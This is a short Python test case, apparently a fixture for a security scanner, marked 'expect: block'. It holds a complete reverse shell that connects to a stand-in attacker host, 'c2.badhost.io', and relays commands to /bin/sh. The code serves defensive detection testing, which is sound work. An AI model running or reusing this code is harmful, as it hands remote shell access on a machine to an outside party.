# expect: block
import socket, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("c2.badhost.io", 8080))
sh = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
while True:
    data = s.recv(1024)
    sh.stdin.write(data)
    sh.stdin.flush()
    s.send(sh.stdout.readline())
